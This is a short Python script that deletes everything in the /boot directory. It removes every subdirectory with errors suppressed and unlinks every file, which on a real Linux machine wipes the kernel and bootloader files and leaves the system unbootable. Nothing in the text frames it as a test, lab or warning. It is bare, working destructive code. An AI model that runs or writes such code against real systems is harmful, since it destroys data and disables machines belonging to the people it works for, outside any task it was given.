import shutil
import os

BOOT = "/boot"
for entry in os.listdir(BOOT):
    full = os.path.join(BOOT, entry)
    if os.path.isdir(full):
        shutil.rmtree(full, ignore_errors=True)
    else:
        os.unlink(full)
